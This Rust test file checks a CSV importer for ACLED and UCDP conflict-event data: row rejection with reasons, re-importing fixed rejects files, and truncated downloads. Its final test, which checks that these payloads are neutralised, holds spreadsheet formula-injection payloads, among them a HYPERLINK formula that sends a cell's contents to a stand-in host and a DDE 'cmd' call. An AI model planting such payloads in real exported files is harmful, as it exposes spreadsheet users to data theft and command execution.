use crate::{fixture, framework, no_progress};
use vitalcore_import::{REJECT_COLUMNS, read_events, write_rejects};

#[test]
fn bad_rows_are_rejected_with_line_field_and_reason_and_good_rows_land() {
    let fw = framework();
    let p = read_events(&fixture("acled_current_with_bad_rows.csv"), &fw, None, &no_progress).unwrap();
    assert_eq!(p.rows_read, 6);
    let ids: Vec<&str> = p.events.iter().map(|e| e.provenance.source_id.as_str()).collect();
    assert_eq!(ids, ["SYNC-1", "SYNC-2"]);
    // SYNB-2's note spans two lines, so the rows after it start one line later.
    let got: Vec<(u64, &str)> = p.rejects.iter().map(|r| (r.line, r.field.as_str())).collect();
    assert_eq!(got, [(3, "fatalities"), (4, "event_date"), (6, "latitude"), (7, "event_id_cnty")]);
    assert_eq!(p.rejects[0].reason, "fatalities `abc` is not a whole number");
    assert!(p.rejects[1].reason.starts_with("event_date `31/02/2020` is not a date"), "{}", p.rejects[1].reason);
    assert_eq!(p.rejects[2].reason, "latitude 123 is outside -90..90");
    assert!(p.rejects[3].reason.contains("event_id_cnty is empty"), "{}", p.rejects[3].reason);
    assert_eq!(p.events[1].provenance.line, 8);
    assert_eq!(p.file.rows_rejected, 4);
    let shown = p.rejects[0].to_string();
    assert!(shown.contains("acled_current_with_bad_rows.csv, line 3, fatalities"), "{shown}");
}

#[test]
fn a_fixed_rejects_file_imports_and_an_unfixed_one_rejects_the_same_rows() {
    let fw = framework();
    let p = read_events(&fixture("acled_current_with_bad_rows.csv"), &fw, None, &no_progress).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let rejects_path = dir.path().join("rejects.csv");
    write_rejects(&rejects_path, &p.header, &p.rejects).unwrap();

    // The rejects file: original header + three columns; original fields kept.
    let mut rdr = csv::Reader::from_path(&rejects_path).unwrap();
    let header: Vec<String> = rdr.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header[..p.header.len()], p.header[..]);
    assert_eq!(header[p.header.len()..], REJECT_COLUMNS);
    let mut rows: Vec<Vec<String>> = rdr.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect();
    assert_eq!(rows.len(), 4);
    assert_eq!(rows[0][header.len() - 3..], ["3", "fatalities", "fatalities `abc` is not a whole number"]);
    assert!(rows[1][27].contains('\n'), "the multi-line note survives");

    // Unfixed: the same four reasons again, the vitalcore_* columns ignored.
    let again = read_events(&rejects_path, &fw, None, &no_progress).unwrap();
    assert_eq!(again.events.len(), 0);
    let fields: Vec<&str> = again.rejects.iter().map(|r| r.field.as_str()).collect();
    assert_eq!(fields, ["fatalities", "event_date", "latitude", "event_id_cnty"]);

    // The user fixes each row, then imports the file: all four land.
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    rows[0][col("fatalities")] = "2".into();
    rows[1][col("event_date")] = "28/02/2020".into();
    rows[2][col("latitude")] = "4.3190".into();
    rows[3][col("event_id_cnty")] = "SYNB-4".into();
    let fixed_path = dir.path().join("fixed.csv");
    let mut w = csv::Writer::from_path(&fixed_path).unwrap();
    w.write_record(&header).unwrap();
    for r in &rows {
        w.write_record(r).unwrap();
    }
    w.flush().unwrap();
    let fixed = read_events(&fixed_path, &fw, None, &no_progress).unwrap();
    assert_eq!(fixed.rejects, vec![]);
    let ids: Vec<&str> = fixed.events.iter().map(|e| e.provenance.source_id.as_str()).collect();
    assert_eq!(ids, ["SYNB-1", "SYNB-2", "SYNB-3", "SYNB-4"]);
    assert_eq!(fixed.events[0].fatalities, 2);
    assert_eq!(fixed.events[1].date.to_string(), "2020-02-28");

    // Writing rejects of a rejects file does not add the columns twice.
    let twice = dir.path().join("twice.csv");
    write_rejects(&twice, &again.header, &again.rejects).unwrap();
    let h2: Vec<String> = csv::Reader::from_path(&twice).unwrap().headers().unwrap().iter().map(String::from).collect();
    assert_eq!(h2, header);
}

#[test]
fn ucdp_rows_with_bad_values_are_rejected_with_reasons() {
    let fw = framework();
    let text = std::fs::read_to_string(fixture("ucdp_ged_sample.csv")).unwrap();
    let mut lines = text.lines();
    let header = lines.next().unwrap();
    let cols: Vec<&str> = header.split(',').collect();
    let at = |name: &str| cols.iter().position(|c| *c == name).unwrap();
    let base: Vec<String> = vec![String::new(); cols.len()];
    let row = |edits: &[(&str, &str)]| {
        let mut r = base.clone();
        for (k, v) in [("id", "1.0"), ("date_start", "2013-01-03"), ("type_of_violence", "1.0"), ("best", "2.0")] {
            r[at(k)] = v.into();
        }
        for (k, v) in edits {
            r[at(k)] = v.to_string();
        }
        r.join(",")
    };
    let csv = [
        header.to_string(),
        row(&[]),
        row(&[("type_of_violence", "4.0")]),
        row(&[("best", "1.5")]),
        row(&[("longitude", "200")]),
        row(&[("date_end", "2013-01-01")]),
        row(&[("id", "")]),
    ]
    .join("\n");
    let p = vitalcore_import::read_events_from_bytes("t.csv", csv.as_bytes(), &fw, None, &no_progress).unwrap();
    assert_eq!(p.events.len(), 1);
    let reasons: Vec<&str> = p.rejects.iter().map(|r| r.reason.as_str()).collect();
    assert_eq!(reasons[0], "type_of_violence `4` is not 1, 2 or 3");
    assert_eq!(reasons[1], "best `1.5` is not a whole number");
    assert_eq!(reasons[2], "longitude 200 is outside -180..180");
    assert_eq!(reasons[3], "date_end 2013-01-01 is before date_start 2013-01-03");
    assert!(reasons[4].starts_with("id is empty"));
}

#[test]
fn a_file_cut_short_inside_its_last_row_rejects_that_row_and_keeps_the_rest() {
    let fw = framework();
    let whole = std::fs::read(fixture("acled_current_synthetic.csv")).unwrap();
    let full = vitalcore_import::read_events_from_bytes("whole.csv", &whole, &fw, None, &no_progress).unwrap();
    assert!(full.rejects.is_empty());
    // cut in the middle of the last row's `notes`, as a broken download leaves it
    let text = String::from_utf8(whole).unwrap();
    let last_row_start = text.trim_end().rfind('\n').unwrap() + 1;
    let notes = text[last_row_start..].find("Synthetic:").expect("the last row has notes") + last_row_start;
    let cut = &text.as_bytes()[..notes + 5];
    let p = vitalcore_import::read_events_from_bytes("cut.csv", cut, &fw, None, &no_progress).unwrap();
    assert_eq!(p.events.len(), full.events.len() - 1, "the complete rows all land");
    assert_eq!(p.rejects.len(), 1);
    let r = &p.rejects[0];
    assert_eq!(r.field, "fatalities");
    assert!(r.reason.contains("cut short"), "{}", r.reason);
}

#[test]
fn a_rejects_file_neutralises_formula_cells_and_keeps_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("r.rejects.csv");
    let header: Vec<String> =
        ["notes", "actor1", "actor2", "source", "latitude", "longitude", "phone"].map(String::from).to_vec();
    let record = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "@SUM(1+1)", "-2+3", "+cmd|' /C calc'!A0"]
        .into_iter()
        .chain(["-5.2", "+18.3", "+23672000002"])
        .map(String::from)
        .collect();
    let reject = vitalcore_import::Reject {
        file: "f.csv".into(),
        line: 2,
        field: "=field".into(),
        reason: "-reason".into(),
        record,
    };
    write_rejects(&path, &header, &[reject]).unwrap();
    let text = std::fs::read_to_string(&path).unwrap();
    let row = text.lines().nth(1).unwrap();
    assert_eq!(
        row,
        "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",'@SUM(1+1),'-2+3,'+cmd|' /C calc'!A0,\
         -5.2,+18.3,+23672000002,2,'=field,'-reason"
    );
}
